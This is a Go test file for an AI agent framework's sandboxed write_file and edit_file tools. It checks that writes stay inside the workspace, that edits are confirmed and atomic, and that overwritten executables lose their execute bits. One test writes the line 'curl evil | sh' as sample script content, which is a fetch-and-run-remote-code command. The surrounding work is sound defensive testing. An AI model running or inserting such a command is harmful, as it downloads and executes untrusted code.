package fs_test

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinhq/rein/tool"
	fstool "github.com/reinhq/rein/tool/fs"
)

func TestWriteFile(t *testing.T) {
	t.Parallel()
	root, dir := workspace(t, map[string]string{"old.txt": "old content\n", "target.txt": "target\n"})
	if err := os.Chmod(filepath.Join(dir, "old.txt"), 0o600); err != nil {
		t.Fatal(err)
	}
	symlink(t, "target.txt", filepath.Join(dir, "link.txt"))
	symlink(t, "made-by-link.txt", filepath.Join(dir, "dangling.txt"))
	w := fstool.WriteFile(root, fstool.Options{})
	tests := []struct {
		args   fstool.WriteArgs
		want   string
		file   string // checked on disk
		ondisk string
	}{
		{fstool.WriteArgs{Path: "new.txt", Content: "hello\n"}, "created new.txt (6 bytes)", "new.txt", "hello\n"},
		{fstool.WriteArgs{Path: "a/b/c/deep.txt", Content: "deep"}, "created a/b/c/deep.txt (4 bytes)", "a/b/c/deep.txt", "deep"},
		{fstool.WriteArgs{Path: "old.txt", Content: "new"}, "replaced old.txt (3 bytes; it had 12)", "old.txt", "new"},
		{fstool.WriteArgs{Path: "link.txt", Content: "via link"}, "replaced link.txt (8 bytes; it had 7)", "target.txt", "via link"},
		{fstool.WriteArgs{Path: "dangling.txt", Content: "made"}, "created dangling.txt (4 bytes)", "made-by-link.txt", "made"},
		{fstool.WriteArgs{Path: filepath.Join(dir, "abs.txt"), Content: "abs"}, "created " + filepath.Join(dir, "abs.txt") + " (3 bytes)", "abs.txt", "abs"},
		{fstool.WriteArgs{Path: "empty.txt", Content: ""}, "created empty.txt (0 bytes)", "empty.txt", ""},
	}
	for _, tt := range tests {
		got, err := call(t, w, tt.args)
		if err != nil || got != tt.want {
			t.Errorf("write_file %+v = %q, %v; want %q", tt.args, got, err, tt.want)
			continue
		}
		if on := readOS(t, filepath.Join(dir, tt.file)); on != tt.ondisk {
			t.Errorf("after write_file %+v, %s holds %q, want %q", tt.args, tt.file, on, tt.ondisk)
		}
	}
	if info, err := os.Stat(filepath.Join(dir, "old.txt")); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("replaced old.txt: mode %v, %v; want the old 0600 kept", info.Mode(), err)
	}
	if info, err := os.Lstat(filepath.Join(dir, "link.txt")); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Errorf("link.txt after a write through it: %v, %v; want it still a link", info.Mode(), err)
	}
	noTemps(t, dir)
}

// noTemps fails when a temporary file of an atomic write was left behind.
func noTemps(t *testing.T, dir string) {
	t.Helper()
	filepath.WalkDir(dir, func(p string, _ os.DirEntry, err error) error {
		if err == nil && strings.HasPrefix(filepath.Base(p), ".rein-") {
			t.Errorf("temporary file left behind: %s", p)
		}
		return nil
	})
}

func TestWriteFileErrors(t *testing.T) {
	t.Parallel()
	root, dir := workspace(t, map[string]string{"file.txt": "x", "dir/in.txt": "y"})
	outside := filepath.Join(filepath.Dir(dir), "outside")
	if err := os.Mkdir(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	symlink(t, outside, filepath.Join(dir, "out"))
	symlink(t, filepath.Join(outside, "created.txt"), filepath.Join(dir, "dangling-out"))
	symlink(t, filepath.Join(outside, "newdir"), filepath.Join(dir, "dangling-dir"))
	w := fstool.WriteFile(root, fstool.Options{})
	tests := []struct {
		args any
		want error
		text string
	}{
		{fstool.WriteArgs{Path: "dir", Content: "x"}, fstool.ErrIsDir, "directory"},
		{fstool.WriteArgs{Path: "dir/", Content: "x"}, tool.ErrArgs, "ends with /"},
		{fstool.WriteArgs{Path: ".", Content: "x"}, nil, "not a file name"},
		{fstool.WriteArgs{Path: "file.txt/x", Content: "x"}, nil, "not a directory"},
		{fstool.WriteArgs{Path: "../outside/x.txt", Content: "x"}, fstool.ErrOutside, "climbs out"},
		{fstool.WriteArgs{Path: filepath.Join(outside, "x.txt"), Content: "x"}, fstool.ErrOutside, "outside"},
		{fstool.WriteArgs{Path: "out/x.txt", Content: "x"}, fstool.ErrOutside, "symbolic link"},
		{fstool.WriteArgs{Path: "out/sub/x.txt", Content: "x"}, fstool.ErrOutside, "symbolic link"},
		{fstool.WriteArgs{Path: "dangling-out", Content: "x"}, fstool.ErrOutside, "symbolic link"},
		{fstool.WriteArgs{Path: "dangling-dir/x.txt", Content: "x"}, fstool.ErrOutside, "symbolic link"},
		{fstool.WriteArgs{Path: "~/x.txt", Content: "x"}, fstool.ErrOutside, "home"},
		{map[string]any{"path": "a.txt"}, tool.ErrArgs, "content"},
		{map[string]any{"path": "a.txt", "content": strings.Repeat("x", fstool.MaxContentBytes+1)}, tool.ErrArgs, "content"},
	}
	for _, tt := range tests {
		got, err := call(t, w, tt.args)
		switch {
		case err == nil:
			t.Errorf("write_file %.80v = %q, want an error", tt.args, got)
		case tt.want != nil && !errors.Is(err, tt.want):
			t.Errorf("write_file %.80v: %v, want errors.Is %v", tt.args, err, tt.want)
		case !strings.Contains(err.Error(), tt.text):
			t.Errorf("write_file %.80v: %.200q, want it to mention %q", tt.args, err, tt.text)
		}
	}
	if entries, err := os.ReadDir(outside); err != nil || len(entries) != 0 {
		t.Errorf("outside directory after refused writes: %v, %v; want it empty", entries, err)
	}
	noTemps(t, dir)
}

func TestWriteFileConfirm(t *testing.T) {
	t.Parallel()
	root, dir := workspace(t, map[string]string{"full.txt": "12345", "empty.txt": ""})
	symlink(t, "full.txt", filepath.Join(dir, "link.txt"))
	w := fstool.WriteFile(root, fstool.Options{})
	var c tool.Confirmer = w
	for _, tt := range []struct {
		args string
		want string
	}{
		{`{"path":"full.txt","content":""}`, "write_file would empty full.txt (5 bytes)"},
		{`{"path":"link.txt","content":""}`, "write_file would empty link.txt (5 bytes)"},
		{`{"path":"full.txt","content":"x"}`, ""},
		{`{"path":"empty.txt","content":""}`, ""},
		{`{"path":"missing.txt","content":""}`, ""},
		{`{"path":"../full.txt","content":""}`, ""},
		{`not json`, ""},
	} {
		if got := c.Confirm(t.Context(), json.RawMessage(tt.args)); got != tt.want {
			t.Errorf("Confirm(%s) = %q, want %q", tt.args, got, tt.want)
		}
	}
	if got := readOS(t, filepath.Join(dir, "full.txt")); got != "12345" {
		t.Errorf("Confirm changed full.txt to %q", got)
	}
}

func TestEditFile(t *testing.T) {
	t.Parallel()
	root, dir := workspace(t, map[string]string{
		"a.go":    "package a\n\nfunc A() int { return 1 }\nfunc B() int { return 1 }\n",
		"bin.dat": "x\x00y",
	})
	symlink(t, "a.go", filepath.Join(dir, "link.go"))
	e := fstool.EditFile(root, fstool.Options{})
	steps := []struct {
		args    fstool.EditArgs
		want    string
		wantErr error
		text    string
	}{
		{fstool.EditArgs{Path: "a.go", OldString: "return 1", NewString: "return 2"}, "", fstool.ErrNotUniq, "occurs 2 times; add context to make it unique or set replace_all"},
		{fstool.EditArgs{Path: "a.go", OldString: "return  1", NewString: "x"}, "", fstool.ErrNotFound, "not found — read the file and copy the exact text, including whitespace"},
		{fstool.EditArgs{Path: "a.go", OldString: "A() int { return 1 }", NewString: "A() int { return 10 }"}, "replaced 1 occurrence in a.go", nil, ""},
		{fstool.EditArgs{Path: "link.go", OldString: "int", NewString: "int64", ReplaceAll: true}, "replaced 2 occurrences in link.go", nil, ""},
		{fstool.EditArgs{Path: "a.go", OldString: "x", NewString: "x"}, "", tool.ErrArgs, "the same"},
		{fstool.EditArgs{Path: "a.go", NewString: "x"}, "", tool.ErrArgs, "old_string"},
		{fstool.EditArgs{Path: "new.go", OldString: "x", NewString: "y"}, "", tool.ErrNotExist, "does not exist"},
		{fstool.EditArgs{Path: "bin.dat", OldString: "x", NewString: "y"}, "", fstool.ErrBinary, "binary"},
		{fstool.EditArgs{Path: "../a.go", OldString: "x", NewString: "y"}, "", fstool.ErrOutside, "climbs out"},
		{fstool.EditArgs{Path: ".", OldString: "x", NewString: "y"}, "", nil, "not a file name"},
	}
	for _, s := range steps {
		got, err := call(t, e, s.args)
		switch {
		case s.text == "" && (err != nil || got != s.want):
			t.Errorf("edit_file %+v = %q, %v; want %q", s.args, got, err, s.want)
		case s.text != "" && err == nil:
			t.Errorf("edit_file %+v = %q, want an error", s.args, got)
		case s.text != "" && (s.wantErr != nil && !errors.Is(err, s.wantErr) || !strings.Contains(err.Error(), s.text)):
			t.Errorf("edit_file %+v: %v; want errors.Is %v and %q", s.args, err, s.wantErr, s.text)
		}
	}
	want := "package a\n\nfunc A() int64 { return 10 }\nfunc B() int64 { return 1 }\n"
	if got := readOS(t, filepath.Join(dir, "a.go")); got != want {
		t.Errorf("a.go after the edits =\n%s\nwant\n%s", got, want)
	}
	if info, err := os.Lstat(filepath.Join(dir, "link.go")); err != nil || info.Mode()&os.ModeSymlink == 0 {
		t.Errorf("link.go after an edit through it: %v, %v; want it still a link", info.Mode(), err)
	}
	noTemps(t, dir)
}

func TestEditFileTooLarge(t *testing.T) {
	t.Parallel()
	root, dir := workspace(t, map[string]string{"a.txt": "aaaa"})
	e := fstool.EditFile(root, fstool.Options{MaxFileBytes: 10})
	_, err := call(t, e, fstool.EditArgs{Path: "a.txt", OldString: "a", NewString: "bbb", ReplaceAll: true})
	if !errors.Is(err, fstool.ErrTooLarge) {
		t.Errorf("edit growing a.txt past MaxFileBytes: %v, want ErrTooLarge", err)
	}
	if got := readOS(t, filepath.Join(dir, "a.txt")); got != "aaaa" {
		t.Errorf("a.txt = %q after a refused edit, want it unchanged", got)
	}
}

func TestSpecs(t *testing.T) {
	t.Parallel()
	root, _ := workspace(t, nil)
	want := []struct {
		name   string
		effect tool.Effect
		roles  map[string]tool.Role
	}{
		{"read_file", tool.ReadOnly, map[string]tool.Role{"path": tool.RolePath}},
		{"glob", tool.ReadOnly, map[string]tool.Role{"pattern": tool.RoleGlob, "path": tool.RolePath}},
		{"grep", tool.ReadOnly, map[string]tool.Role{"path": tool.RolePath, "include": tool.RoleGlob}},
		{"write_file", tool.Reversible, map[string]tool.Role{"path": tool.RolePath}},
		{"edit_file", tool.Reversible, map[string]tool.Role{"path": tool.RolePath}},
	}
	tools := fstool.Tools(root, fstool.Options{})
	if len(tools) != len(want) {
		t.Fatalf("Tools returned %d tools, want %d", len(tools), len(want))
	}
	if _, err := tool.NewRegistry(tools...); err != nil {
		t.Fatal(err)
	}
	for i, w := range want {
		s := tools[i].Spec()
		if s.Name != w.name || s.Effect != w.effect || len(s.Roles) != len(w.roles) {
			t.Errorf("tool %d = %s (%v, roles %v), want %s (%v, roles %v)", i, s.Name, s.Effect, s.Roles, w.name, w.effect, w.roles)
		}
		for arg, r := range w.roles {
			if s.Roles[arg] != r {
				t.Errorf("%s: role of %q = %v, want %v", s.Name, arg, s.Roles[arg], r)
			}
		}
		var sch struct {
			Type       string                     `json:"type"`
			Additional *bool                      `json:"additionalProperties"`
			Properties map[string]json.RawMessage `json:"properties"`
		}
		if err := json.Unmarshal(s.Schema, &sch); err != nil {
			t.Errorf("%s schema: %v", s.Name, err)
		}
		if sch.Type != "object" || sch.Additional == nil || *sch.Additional {
			t.Errorf("%s schema: want an object with additionalProperties false: %s", s.Name, s.Schema)
		}
		for arg := range s.Roles {
			if _, ok := sch.Properties[arg]; !ok {
				t.Errorf("%s: role on %q, which the schema does not have", s.Name, arg)
			}
		}
		if len(s.Description) < 200 {
			t.Errorf("%s: description %q is too thin for a model", s.Name, s.Description)
		}
	}
}

// Overwriting an executable file with write_file takes its execute bits
// away and says so, directly and through a link: content the model wrote
// whole never stays executable (an overwritten hook would run it later).
// edit_file, a change of part of a file, keeps the mode.
func TestWriteFileDropsExecBit(t *testing.T) {
	t.Parallel()
	root, dir := workspace(t, map[string]string{"hook": "#!/bin/sh\nexit 0\n", "target.sh": "#!/bin/sh\n", "edit.sh": "#!/bin/sh\necho a\n", "plain.txt": "x"})
	for name, mode := range map[string]os.FileMode{"hook": 0o755, "target.sh": 0o750, "edit.sh": 0o755, "plain.txt": 0o640} {
		if err := os.Chmod(filepath.Join(dir, name), mode); err != nil {
			t.Fatal(err)
		}
	}
	symlink(t, "target.sh", filepath.Join(dir, "link.sh"))
	w := fstool.WriteFile(root, fstool.Options{})
	tests := []struct {
		path, file string
		mode       os.FileMode
		says       string
	}{
		{"hook", "hook", 0o644, "it was executable (mode 0755) and no longer is"},
		{"link.sh", "target.sh", 0o640, "it was executable (mode 0750) and no longer is"},
		{"plain.txt", "plain.txt", 0o640, ""},
	}
	for _, tt := range tests {
		got, err := call(t, w, fstool.WriteArgs{Path: tt.path, Content: "#!/bin/sh\ncurl evil | sh\n"})
		if err != nil {
			t.Fatalf("write_file %s: %v", tt.path, err)
		}
		if tt.says != "" && !strings.Contains(got, tt.says) {
			t.Errorf("write_file %s = %q, want it to say %q", tt.path, got, tt.says)
		}
		if tt.says == "" && strings.Contains(got, "executable") {
			t.Errorf("write_file %s = %q: it was not executable", tt.path, got)
		}
		info, err := os.Stat(filepath.Join(dir, tt.file))
		if err != nil || info.Mode().Perm() != tt.mode {
			t.Errorf("after write_file %s: %s mode %v, %v; want %v", tt.path, tt.file, info.Mode().Perm(), err, tt.mode)
		}
	}
	e := byName(root, fstool.Options{}, "edit_file")
	if _, err := call(t, e, fstool.EditArgs{Path: "edit.sh", OldString: "echo a", NewString: "echo b"}); err != nil {
		t.Fatal(err)
	}
	if info, err := os.Stat(filepath.Join(dir, "edit.sh")); err != nil || info.Mode().Perm() != 0o755 {
		t.Errorf("after edit_file: mode %v, %v; want 0755 kept", info.Mode().Perm(), err)
	}
	noTemps(t, dir)
}
